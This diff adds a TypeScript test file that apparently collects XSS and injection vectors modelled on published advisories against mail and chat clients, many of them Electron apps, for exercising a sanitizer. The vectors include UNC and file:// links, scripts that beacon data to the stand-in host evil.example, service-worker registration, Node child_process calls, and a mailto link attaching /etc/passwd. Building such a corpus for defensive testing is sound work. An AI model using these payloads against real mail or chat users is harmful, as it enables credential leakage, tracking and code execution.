@@ -1,0 +1,81 @@
+// What published advisories say broke mail and chat programs, above all those on Electron, told again in our own vectors:
+// Signal Desktop 2018 (CVE-2018-10994, -11101: quoted HTML and iframes of UNC paths), Rocket.Chat (CVE-2020-15926 and its desktop's
+// openExternal), Element/Riot (CVE-2022-23597: a new window of any address), Mailspring (CVE-2023-47479: mXSS), Discord 2020 (an embed's
+// iframe and then a navigation), Slack 2020 (image maps, a posted file's HTML), VS Code (Markdown links to commands, webviews), Thunderbird
+// (CVE-2021-38502 ff., remote content by CSS and iframes; meta refresh CVE-2022-3033), EFAIL, ProtonMail (SVG after sanitising; Sonar 2022),
+// Skiff and Tutanota (Sonar 2022, styles and mXSS), Roundcube (CVE-2020-12625, -35730, 2023-5631, 2024-37383, 2024-42009: SVG animate with a
+// space, body attributes made over, link references), Zimbra (calendar, CVE-2022-24682; iCalendar ontoggle CVE-2025-27915), Outlook (UNC
+// sounds CVE-2023-23397, moniker links CVE-2024-21413), Gmail's dynamic mail (clobbering), Yahoo Mail 2016 (data attributes of its own),
+// Horde, SquirrelMail (style and MIME quirks), Wire, Mattermost and Jitsi desktop (openExternal of any scheme), WhatsApp desktop 2020.
+import type { Group } from './group.ts'
+
+const host = 'http://evil.example'
+
+export const apps: Group[] = [
+  {
+    name: 'what broke mail and chat programs',
+    vectors: [
+      `<blockquote><iframe src="\\\\evil.example\\share\\x.html"></iframe></blockquote>`,
+      `<blockquote>&lt;img src=x onerror=alert(1)&gt;</blockquote>`,
+      `<blockquote type=cite><iframe src="file://evil.example/x"></iframe><img src=//evil.example/q></blockquote>`,
+      `<a href="smb://evil.example/x" target=_blank>invoice.pdf</a>`,
+      `<a href="${host}/new" target=_blank rel=opener onauxclick=alert(1)>https://good.example</a>`,
+      `<a href="command:workbench.action.terminal.new?%7B%7D">x</a>`,
+      `<a href="vscode-webview://x/index.html?id=y">x</a>`,
+      `<map name=s><area coords="0,0,9999,9999" shape=rect href="${host}/slack" target=_self></map><img usemap=#s src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
+      `<iframe src="https://sketchfab.example.evil.example/embed" allow=autoplay></iframe>`,
+      `<iframe srcdoc="<script>top.location='${host}/embed'</script>"></iframe>`,
+      `<iframe srcdoc="<script>window.open('${host}/pop')</script>" sandbox="allow-scripts allow-popups allow-top-navigation"></iframe>`,
+      `<iframe srcdoc='<img src="${host}/in">' csp="img-src *"></iframe>`,
+      `<webview src="${host}/webview" nodeintegration preload="file://evil.example/x.js"></webview>`,
+      `<webview src="data:text/html,<script>alert(1)</script>" allowpopups disablewebsecurity></webview>`,
+      `<svg><animate href=#x attributeName="href " values="javascript:alert(1)" /><a id=x><text y=20>x</text></a></svg>`,
+      `<svg><animate attributeName="href&#9;" values="javascript:alert(1)"><a><text y=20>x</text></a></svg>`,
+      `<body title="bgcolor=foo" name="bar style=animation-name:progress-bar-stripes onanimationstart=alert(1) foo=bar">x</body>`,
+      `<body bgcolor='"><img src=x onerror=alert(1)>' text="&quot; onload=alert(1) x=&quot;">x</body>`,
+      `<body class='x" onload="alert(1)' dir='rtl" onload="alert(1)' style='color:red" onload="alert(1)'>x</body>`,
+      `<svg><use href="data:image/s vg+xml;base64,x#x"></use></svg><svg><use href="data:image/svg+xml;base64 ,PHN2Zz4=#x"/></svg>`,
+      `<xml><x xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></x></xml>`,
+      `[<script>alert(1)</script>]: ${host}/reference\nSee [x][<script>alert(1)</script>] and ![x](${host}/md.png) and [x](javascript:alert(1))`,
+      `[a](${host}/x "><img src=x onerror=alert(1)>") \`<img src=x onerror=alert(1)>\` ~~<svg onload=alert(1)>~~`,
+      `$\\href{javascript:alert(1)}{x}$ $\\unicode{<img src=x onerror=alert(1)>}$ \`\`\`mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n\`\`\``,
+      `:smile"onmouseover="alert(1): @<img src=x onerror=alert(1)> #"><svg onload=alert(1)>`,
+      `<a href='file:///\\\\evil.example\\x.rtf!something'>moniker</a>`,
+      `<a href="file:///\\\\evil.example\\share\\x.exe">x</a><img src="file:///\\\\evil.example\\p.png">`,
+      `<div data-reminder-sound="\\\\evil.example\\x.wav" data-url="${host}/d">x</div>`,
+      `<p data-tooltip="<img src=x onerror=alert(1)>" data-bind="html:'<img src=x onerror=alert(1)>'" ng-app ng-bind-html=x v-html=x x-data x-init=alert(1) @click=alert(1) :href="'javascript:alert(1)'" hx-get="${host}/hx" hx-on:click=alert(1)>x</p>`,
+      `<div class="js-tagify" data-whitelist='["<img src=x onerror=alert(1)>"]' data-toggle=modal data-remote="${host}/r">x</div>`,
+      `<button data-iframe='<iframe src=x onload=alert(1)></iframe>' data-url=javascript:alert(1)>x</button>`,
+      `<details open ontoggle="alert(1)"><summary>BEGIN:VCALENDAR</summary>DESCRIPTION:<img src=x onerror=alert(1)></details>`,
+      `<a href="https://x.example/?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E">x</a>`,
+      `<a href="mailto:a@b.example?subject=x&body=y&attach=/etc/passwd&attachment=file:///etc/shadow">x</a>`,
+      `<a href="mailto:&#34;><img src=x onerror=alert(1)>@evil.example">x</a>`,
+      `<a href="tel:*%2306%23;x=javascript:alert(1)">x</a><a href="sms:1?body=x">x</a><a href="callto:x">x</a>`,
+      `<a href="https://good.example\\@evil.example/">x</a><a href="https://good.example%00.evil.example">x</a>`,
+      `<a href="https://xn--80ak6aa92e.evil.example/">good.example</a>`,
+      `<a title="javascript:alert(1)" href="javascript:alert(1)"><img src=x alt='"><img src=x onerror=alert(1)>'></a>`,
+      `<style>.moz-text-html{background:url(${host}/tb)}.moz-cite-prefix{background:url(${host}/tb2)}</style><p class=moz-text-html>x`,
+      `<style>div.moz-forward-container{-moz-binding:url(${host}/tb3)}@-moz-document url(http://x){}</style>x`,
+      `<style>[owa] p{background:url(${host}/owa)}u + .body p{background:url(${host}/gm)}</style><u></u><div class=body><p>x</div>`,
+      `<style>\u003c/style\u003e</style  foo><img src=x onerror=alert(1)>`,
+      `<proton-src src="${host}/proton"><img proton-src="${host}/proton2" data-src="${host}/lazy" data-original="${host}/lazy2">`,
+      `<svg><style>&lt;/style>&lt;img src=x onerror=alert(1)></style></svg>`,
+      `<math><style><img src=x onerror=alert(1)></style></math>`,
+      `<div style="background:ur&#108;(${host}/zimbra)">x</div>`,
+      `<div style='x:"&quot;;background:url(${host}/horde)'>x</div>`,
+      `<img src="cid:x" alt="" onerror="alert(1)" style="content:url(${host}/owa2)">`,
+      `<img src="data:image/png;base64,AAAA" onerror=alert(1)><img src="data:image/png,<svg onload=alert(1)>">`,
+      `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=&quot; onload=&quot;alert(1)">`,
+      `<script>require('child_process').exec('x');alert(1)</script>`,
+      `<img src=x onerror="process.mainModule.require('fs');alert(1)">`,
+      `<script>window.skein&&skein.connect();parent.skein&&parent.skein.connect();alert(1)</script>`,
+      `<iframe name="skein" src="skein-app://desk/index.html"></iframe><iframe src="/"></iframe><iframe src="about:blank"></iframe>`,
+      `<object data="/index.html"></object><embed src="/assets/x"><iframe src="blob:x"></iframe>`,
+      `<script>navigator.serviceWorker.register('${host}/sw.js');alert(1)</script>`,
+      `<script>fetch('${host}/f');new WebSocket('ws://evil.example/w');navigator.sendBeacon('${host}/b');alert(1)</script>`,
+      `<script>navigator.clipboard.writeText('x');Notification.requestPermission();alert(1)</script>`,
+      `<script>new RTCPeerConnection({iceServers:[{urls:'stun:evil.example'}]}).createDataChannel('x');alert(1)</script>`,
+      `<script>history.pushState(0,0,'/stolen');document.title='x';top.focus();alert(1)</script>`,
+    ],
+  },
+]
